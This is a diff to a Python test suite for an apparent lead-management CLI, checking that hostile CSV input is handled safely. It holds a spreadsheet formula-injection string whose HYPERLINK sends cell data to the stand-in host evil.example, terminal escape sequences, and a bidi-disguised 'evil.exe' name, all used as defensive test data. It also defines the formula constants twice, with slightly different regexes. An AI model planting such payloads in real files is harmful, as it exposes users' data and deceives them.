@@ -5,6 +5,7 @@ handled; nothing prints a traceback, a raw control sequence or a formula."""
 from __future__ import annotations
 
 import csv
+import json
 import os
 import re
 import select
@@ -21,7 +22,6 @@ from dialsmile.config import Clock, Settings
 from dialsmile.core.models import Outcome
 from dialsmile.core.scripts import load_script
 from dialsmile.core.session import CallSession
-from dialsmile.io.export import _FORMULA_START, _PLAIN_NUMBER
 from dialsmile.storage.db import open_db
 from dialsmile.storage.leads import LeadStore
 from dialsmile.ui.app import make_app
@@ -30,12 +30,16 @@ from tests.conftest import FIXTURES, NOW
 
 BAD = FIXTURES / "bad"
 # Escape, C0/C1 controls (newline and tab aside) and bidi overrides never reach a terminal raw.
+# What a spreadsheet runs as a formula, as a user states it (not the exporter's constants):
+# a cell starting with = + - @, a tab or a carriage return, unless it is a plain number.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"^[+-]?\d[\d ().-]*$")
 RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 REFUSED = {
-    "spreadsheet.xlsx": "not a text file",
-    "random-binary.csv": "not a text file",
+    "spreadsheet.xlsx": "is damaged or not a workbook",
+    "random-binary.csv": "not a CSV file or a workbook",
     "zero-bytes.csv": "is empty",
-    "nul-bytes.csv": "not a text file",
+    "nul-bytes.csv": "not a CSV file or a workbook",
     "only-header.csv": "header but no rows",
     "single-200mb-line.csv": "longer than",
 }
@@ -65,13 +69,18 @@ def clean(result: Result) -> None:
     assert result.exception is None or isinstance(result.exception, SystemExit)
 
 
+# What a spreadsheet runs as a formula, and the numbers an export leaves bare.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"^[+-]?\d[\d\s().-]*$")
+
+
 def assert_no_formula(path: Path) -> list[dict[str, str]]:
     with path.open(encoding="utf-8", newline="") as f:
         rows = list(csv.DictReader(f))
     for row in rows:
         for value in row.values():
-            if value and value.startswith(_FORMULA_START):
-                assert _PLAIN_NUMBER.match(value), value
+            if value and value.startswith(FORMULA_START):
+                assert PLAIN_NUMBER.match(value), value
     return rows
 
 
@@ -119,7 +128,8 @@ def test_every_bad_file_through_import_session_and_export(tmp_path: Path) -> Non
     rows = assert_no_formula(leads)
     names = {r["name"] for r in rows}
     assert '\'=HYPERLINK("http://evil.example/?"&A1;"click") +SUM(1;2)' in names
-    assert "\x1b[31mRed\x1b[0m \x1b]0;pwned title\x07Lee" in names  # data kept as it was
+    # Data kept as it was, but for the invisible BEL (U+0007) that exports leave out.
+    assert "\x1b[31mRed\x1b[0m \x1b]0;pwned titleLee" in names
 
 
 async def test_the_session_screen_shows_hostile_text_literally(tmp_path: Path) -> None:
@@ -195,3 +205,45 @@ def test_import_messages_show_control_characters_as_visible_codes(
     )
     clean(result)
     assert "\\x1b" in result.stdout
+
+
+# The text of each lead exactly as the file writes it, typed by hand: (name, company, notes).
+STORED = {
+    "emoji.csv": [
+        (
+            "\U0001f600 Zoë \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 Family",
+            "\U0001f3e2 Co™",
+            "\U0001f525\U0001f525 ZWJ e\u0301 combining",
+        )
+    ],
+    "right-to-left.csv": [
+        (
+            "محمد \u202eevil.exe\u202c",
+            "شركة الأمل",
+            "\u2067isolate\u2069 עברית",
+        )
+    ],
+    "mixed-encodings.csv": [
+        ("Åsa Lund", "Café AB", "utf-8 row"),
+        ("Søren Berg", "Brød ApS", "cp1252 row"),
+    ],
+}
+
+
+def stored_leads(tmp_path: Path, name: str) -> list[tuple[str, str, str]]:
+    db = str(tmp_path / "stored.db")
+    runner = CliRunner()
+    result = runner.invoke(cli, ["--db", db, "import", str(BAD / name), "--list", name])
+    assert result.exit_code == 0, result.stderr
+    listed = runner.invoke(cli, ["--db", db, "leads", "--list", name, "--json"])
+    assert listed.exit_code == 0, listed.stderr
+    return [(r["name"], r["company"], r["notes"]) for r in json.loads(listed.stdout)]
+
+
+@pytest.mark.parametrize("name", ["emoji.csv", "right-to-left.csv"])
+def test_emoji_and_right_to_left_text_is_stored_as_written(tmp_path: Path, name: str) -> None:
+    assert stored_leads(tmp_path, name) == STORED[name]
+
+
+def test_a_file_mixing_utf8_and_cp1252_lines_keeps_both_as_written(tmp_path: Path) -> None:
+    assert stored_leads(tmp_path, "mixed-encodings.csv") == STORED["mixed-encodings.csv"]
